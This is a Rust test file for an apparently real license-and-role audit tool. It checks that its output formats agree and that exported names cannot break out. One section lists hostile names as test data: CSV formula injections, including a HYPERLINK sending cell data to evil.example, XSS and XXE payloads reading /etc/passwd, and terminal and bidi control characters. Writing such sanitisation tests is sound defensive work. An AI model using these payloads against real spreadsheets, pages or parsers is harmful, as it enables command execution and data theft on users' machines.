//! The forms of an audit: all tell the same, each holds what its readers rely on, and no text from an export breaks out.

use super::{demo, demo_json, findings, json, written};
use crate::command_line::{licit, on_small_data};
use crate::common::skipped;
use licit::model::FindingKind;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};

#[test]
fn the_made_up_tenant_has_a_finding_of_every_kind() {
    let audit = demo_json();
    let seen: BTreeSet<String> = findings(audit)
        .into_iter()
        .map(|(_, kind, _)| kind)
        .collect();
    // A thing to do comes from facts that the asker states, and the demonstration has none but its files.
    let all = FindingKind::ALL
        .iter()
        .filter(|kind| **kind != FindingKind::ToDo);
    let all: BTreeSet<String> = all.map(|kind| kind.word().to_owned()).collect();
    assert_eq!(seen, all);
}

#[test]
fn totals_can_be_counted_again_from_the_rows() {
    let audit = demo_json();
    let tally = |list: &Value, key: &str| {
        let mut counts: BTreeMap<String, u64> = BTreeMap::new();
        for one in list.as_array().unwrap() {
            if let Some(word) = one[key].as_str() {
                *counts.entry(word.to_owned()).or_default() += 1;
            }
        }
        serde_json::to_value(counts).unwrap()
    };
    let totals = &audit["totals"];
    assert_eq!(
        totals["people_by_verdict"],
        tally(&audit["people"], "verdict")
    );
    assert_eq!(totals["rows_by_verdict"], tally(&audit["rows"], "verdict"));
    assert_eq!(totals["not_counted"], tally(&audit["rows"], "not_counted"));
    assert_eq!(totals["findings"], tally(&audit["findings"], "kind"));
    // Every row of a person stands in the list of that person, and each once.
    let mut places = BTreeSet::new();
    for person in audit["people"].as_array().unwrap() {
        for place in person["rows"].as_array().unwrap() {
            let row = &audit["rows"][usize::try_from(place.as_u64().unwrap()).unwrap()];
            assert_eq!(row["person"], person["person"]);
            assert!(places.insert(place.as_u64().unwrap()));
        }
    }
}

#[test]
fn what_is_the_same_for_several_people_names_the_first_and_lists_all() {
    let upns = ["ana", "ben", "cora", "dan"].map(|who| format!("{who}@contoso.com"));
    let accounts = upns
        .each_ref()
        .map(|upn| format!("[[account]]\nupn = \"{upn}\"\nroles = [\"Pigeon Keeper\"]\n"));
    let path = written("several.toml", &accounts.concat());
    let said = licit(&["audit", &path]).answer;
    let words: Vec<&str> = said.split_whitespace().collect();
    assert!(
        words
            .join(" ")
            .contains("ana@contoso.com, ben@contoso.com and 2 more, Pigeon Keeper: a role"),
        "{said}"
    );
    let audit = json(&licit(&["audit", &path, "--format", "json"]));
    let found = audit["findings"].as_array().unwrap().iter();
    let all: Vec<&Value> = found
        .filter(|finding| finding["kind"] == "unknown-role")
        .collect();
    assert_eq!(all.len(), 1);
    assert_eq!(all[0]["concerns"], serde_json::json!(upns));
    let table = licit(&["audit", &path, "--format", "csv"]).answer;
    assert!(table.contains(&upns.join("; ")), "{table}");
}

#[test]
fn every_finding_leads_to_its_rows_and_to_a_proof_that_runs() {
    let audit = demo_json();
    let answers: BTreeSet<u64> = audit["answers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|answer| answer["id"].as_u64().unwrap())
        .collect();
    for finding in audit["findings"].as_array().unwrap() {
        let is_about_nobody = finding["kind"] == "not-told" || finding["kind"] == "too-few-seats";
        assert!(
            is_about_nobody || !finding["rows"].as_array().unwrap().is_empty(),
            "{finding}"
        );
        assert_eq!(finding["answer"].is_null(), finding["why"].is_null());
        let Some(why) = finding["why"].as_str() else {
            continue;
        };
        assert!(
            answers.contains(&finding["answer"].as_u64().unwrap()),
            "{finding}"
        );
        // The made-up tenant needs no quotation marks in its commands.
        assert!(!why.contains('\''), "{why}");
        let words: Vec<&str> = why.split(' ').skip(1).collect();
        let run = licit(&words);
        assert_eq!(run.code, 0, "{why}: {}", run.messages);
    }
}

#[test]
fn lines_are_whole_only_with_their_summary_and_say_the_same_as_the_document() {
    let audit = demo_json();
    let text = demo(&["--format", "ndjson"]).answer;
    let lines: Vec<Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let (Some((first, rest)), true) = (lines.split_first(), text.ends_with('\n')) else {
        panic!("{text}");
    };
    let (last, found) = rest.split_last().unwrap();
    assert_eq!(
        (&first["line"], &last["line"]),
        (&Value::from("head"), &Value::from("summary"))
    );
    assert_eq!(last["lines"].as_u64(), Some(found.len() as u64));
    assert_eq!(last["totals"], audit["totals"]);
    assert_eq!(first["files"], audit["files"]);
    for (line, finding) in found.iter().zip(audit["findings"].as_array().unwrap()) {
        let mut line = line.clone();
        let keys = line.as_object_mut().unwrap();
        keys.remove("schema");
        keys.remove("line");
        assert_eq!(line, *finding);
    }
}

#[test]
fn every_form_tells_every_finding() {
    let audit = |form: &str| {
        on_small_data(&["audit", "tests/data/audit/small.toml", "--format", form]).answer
    };
    let found = findings(&serde_json::from_str(&audit("json")).unwrap());
    assert!(found.len() > 5);
    for form in ["text", "markdown", "html", "csv", "junit", "ndjson"] {
        let answer = audit(form);
        for (id, ..) in &found {
            assert!(answer.contains(id), "{form}: {id}");
        }
        assert!(!answer.contains('\u{1b}'), "{form}");
    }
}

/// Names that try to become something else where they are printed.
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(1)",
    "</script><script>alert(1)</script>",
    "a|b [x](javascript:alert(1))",
    "\\\"><img src=x onerror=alert(1)>",
    "]]>&amp;<!--",
    "+cmd",
];

/// Beginnings of a name that make a formula, a tag, a sequence of the terminal, another direction or another cell of it.
const BEGINNINGS: [&str; 12] = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r\n=",
    "\u{ff1d}",
    " =",
    "\u{1b}[31m",
    "\u{202e}",
    "\"",
];

/// What may follow.
const PAYLOADS: [&str; 12] = [
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
    "<img src=x onerror=alert(1)>",
    "</table><iframe src=javascript:alert(1)>",
    "\" onmouseover=\"alert(1)",
    "&lt;script&gt;&#x6a;",
    "]]></system-out><failure/><!--",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "a\",\"b\",\"=c\n=d",
    "\u{1b}]0;title\u{7}\u{9b}31m\u{8}\u{0}",
    "\u{2066}gpj.exe\u{2069}\u{200b}\u{feff}\u{e0041}",
    "| a | [x](javascript:alert(1)) `b` ![y](data:text/html,x)",
];

/// 150 hostile names.
fn hostile_names() -> Vec<String> {
    let made = BEGINNINGS.iter().flat_map(|beginning| {
        let names = PAYLOADS.iter();
        names.map(move |payload| format!("{beginning}{payload}"))
    });
    let names: Vec<String> = HOSTILE
        .iter()
        .map(|name| (*name).to_owned())
        .chain(made)
        .collect();
    assert_eq!(names.len(), 150);
    names
}

/// A string of TOML that holds a text as it is.
fn toml_string(text: &str) -> String {
    let letters = text.chars().map(|letter| match letter {
        '"' | '\\' => format!("\\{letter}"),
        letter if letter.is_control() => format!("\\u{:04x}", u32::from(letter)),
        letter => letter.to_string(),
    });
    format!("\"{}\"", letters.collect::<String>())
}

/// A tenant whose people have these names, each lacking a license.
fn hostile() -> String {
    let mut text = String::new();
    for (number, name) in hostile_names().iter().enumerate() {
        let name = toml_string(name);
        text.push_str(&format!(
            "[[account]]\nupn = \"a{number}@contoso.example\"\nname = {name}\nheld = []\neligible = [\"Helpdesk Administrator\"]\n"
        ));
    }
    text.push_str("[[group]]\nname = '=1+1|<b>'\neligible = [\"Helpdesk Administrator\"]\n");
    written("hostile.toml", &text)
}

#[test]
fn no_name_of_an_export_becomes_a_formula_a_tag_or_a_column() {
    let file = hostile();
    let audit = |form: &str| licit(&["audit", &file, "--format", form]).answer;
    let reader = csv::ReaderBuilder::new();
    let csv = audit("csv");
    let mut rows = 0;
    for record in reader.from_reader(csv.as_bytes()).records() {
        for cell in &record.unwrap() {
            let first = cell.trim_start().chars().next().unwrap_or(' ');
            assert!(!"=+-@\t\r".contains(first), "{cell}");
        }
        rows += 1;
    }
    assert!(rows > 150);
    assert!(csv.contains("'=HYPERLINK(1)"), "{csv}");

    let html = audit("html");
    assert!(html.contains("default-src 'none'"), "{html}");
    // What follows the style sheet is text and our own tags.
    let body = html.split("<body>").nth(1).unwrap();
    let tags: BTreeSet<&str> = body
        .split('<')
        .skip(1)
        .map(|tag| {
            tag.trim_start_matches('/')
                .split([' ', '>', '\n'])
                .next()
                .unwrap()
        })
        .collect();
    let ours: BTreeSet<&str> = [
        "h1", "h2", "p", "ul", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td",
        "strong", "code", "span", "body", "html",
    ]
    .into();
    assert!(tags.is_subset(&ours), "{:?}", tags.difference(&ours));
    // An attribute stands only in our own tags, and those of names of ours.
    for tag in body
        .split('<')
        .skip(1)
        .filter_map(|tag| tag.split_once('>'))
    {
        let attributes = tag.0.split(' ').skip(1).filter(|word| word.contains('='));
        for attribute in attributes {
            assert!(attribute.starts_with("class=\""), "{}", tag.0);
        }
    }
    assert!(!html.contains("<script"), "{html}");

    let markdown = audit("markdown");
    assert!(
        !markdown.replace("\\]", "").contains("](javascript"),
        "{markdown}"
    );
    for line in markdown.lines().filter(|line| line.starts_with("| ")) {
        let bars = line.replace("\\|", "").matches('|').count();
        assert_eq!(bars, 3, "{line}");
    }
    assert!(!markdown.replace("\\<", "").contains("<img"), "{markdown}");
}

/// Signs that steer a terminal, or turn or hide text.
fn is_harmful(letter: char) -> bool {
    (letter.is_control() && letter != '\n')
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

#[test]
fn no_form_passes_a_sign_on_that_steers_a_terminal_or_turns_text() {
    let file = hostile();
    for form in ["text", "json", "ndjson", "csv", "markdown", "junit", "html"] {
        let run = licit(&["audit", &file, "--format", form]);
        for text in [&run.answer, &run.messages] {
            let harmful: BTreeSet<char> =
                text.chars().filter(|letter| is_harmful(*letter)).collect();
            assert!(harmful.is_empty(), "{form}: {harmful:?}");
        }
        // JSON has other signs for the same: none of them stands for such a sign either.
        if form.ends_with("json") {
            for line in run.answer.lines().filter(|_| form == "ndjson") {
                let line: Value = serde_json::from_str(line).unwrap();
                let bad = |text: &str| text.chars().any(is_harmful);
                assert!(!strings(&line).into_iter().any(bad), "{line}");
            }
        }
    }
    for program in ["soffice", "chromium"] {
        let path = std::env::var_os("PATH").unwrap_or_default();
        if !std::env::split_paths(&path).any(|folder| folder.join(program).is_file()) {
            skipped(
                "S04 and S05 in the real program",
                &format!("{program} is not on this machine"),
            );
        }
    }
}

/// All texts in a value.
fn strings(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(list) => list.iter().flat_map(strings).collect(),
        Value::Object(fields) => fields.values().flat_map(strings).collect(),
        _ => Vec::new(),
    }
}

/// The names of elements and attributes are balanced, quoted and escaped: what every reader of XML asks for.
fn well_formed(xml: &str) -> Result<usize, String> {
    let mut open: Vec<&str> = Vec::new();
    let mut elements = 0;
    let text = xml
        .strip_prefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")
        .ok_or("no head")?;
    let mut parts = text.split('<');
    if !parts.next().unwrap_or_default().trim().is_empty() {
        return Err("text before the root".to_owned());
    }
    for part in parts {
        let (tag, after) = part
            .split_once('>')
            .ok_or(format!("`{part}` is not closed"))?;
        if after.contains(']') && after.contains("]]>") {
            return Err(format!("`{after}` ends what is not begun"));
        }
        for text in [tag, after] {
            for entity in text.split('&').skip(1) {
                let name = entity.split(';').next().unwrap_or_default();
                if !["amp", "lt", "gt", "quot", "#39"].contains(&name) {
                    return Err(format!("`&{name}` is no entity"));
                }
            }
        }
        if tag.matches('"').count() % 2 != 0 {
            return Err(format!("`{tag}` has an open quotation mark"));
        }
        if let Some(name) = tag.strip_prefix('/') {
            if open.pop() != Some(name) {
                return Err(format!("`{name}` closes nothing"));
            }
            continue;
        }
        elements += 1;
        let name = tag.split([' ', '/']).next().unwrap_or_default();
        if !tag.ends_with('/') {
            open.push(name);
        }
    }
    if open.is_empty() {
        Ok(elements)
    } else {
        Err(format!("{open:?} stay open"))
    }
}

#[test]
fn junit_is_well_formed_and_counts_what_it_holds() {
    assert!(
        well_formed("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a><b c=\"<\"/></a>").is_err()
    );
    assert!(well_formed("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a><b></a>").is_err());
    assert_eq!(
        well_formed("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a><b c=\"&lt;\"/></a>"),
        Ok(2)
    );
    let file = hostile();
    let counted = |answer: &str| {
        well_formed(answer).unwrap_or_else(|fault| panic!("{fault}\n{answer}"));
        let head = answer.lines().nth(1).unwrap();
        let number = |key: &str| -> usize {
            let value = head.split(&format!("{key}=\"")).nth(1).unwrap();
            value.split('"').next().unwrap().parse().unwrap()
        };
        assert_eq!(number("tests"), answer.matches("<testcase ").count());
        assert_eq!(number("failures"), answer.matches("<failure ").count());
        assert_eq!(number("skipped"), answer.matches("<skipped ").count());
        (number("failures"), number("skipped"))
    };
    // 150 people lack a license; nobody tells who is in the group.
    let (failures, skipped) = counted(&licit(&["audit", &file, "--format", "junit"]).answer);
    assert_eq!((failures, skipped), (150, 1));
    let strict = licit(&[
        "audit",
        &file,
        "--format",
        "junit",
        "--fail-on",
        "cannot-tell",
    ])
    .answer;
    assert_eq!(counted(&strict), (150 + 1, 0));
    let lax = licit(&["audit", &file, "--format", "junit", "--fail-on", "never"]).answer;
    assert_eq!(counted(&lax), (0, 150 + 1));
    counted(&demo(&["--format", "junit"]).answer);
}

#[test]
fn the_text_says_what_was_read_then_totals_then_findings_gravest_first() {
    let text = demo(&[]).answer;
    let places: Vec<usize> = [
        "Read (4 files)",
        "read as accounts with their licenses, 16 rows, 16 understood",
        "Totals",
        "Gaps (",
        "do: assign an idle seat, which costs nothing: 1 of SPE_E5",
        "To look at (",
        "Good to know (",
        "Smallest purchase that closes every gap",
        "What no export tells (",
        "do: export \"Members of groups that hold roles\"",
        "By person and role (",
    ]
    .iter()
    .map(|part| text.find(part).unwrap_or_else(|| panic!("{part}:\n{text}")))
    .collect();
    assert!(places.is_sorted(), "{places:?}");
}
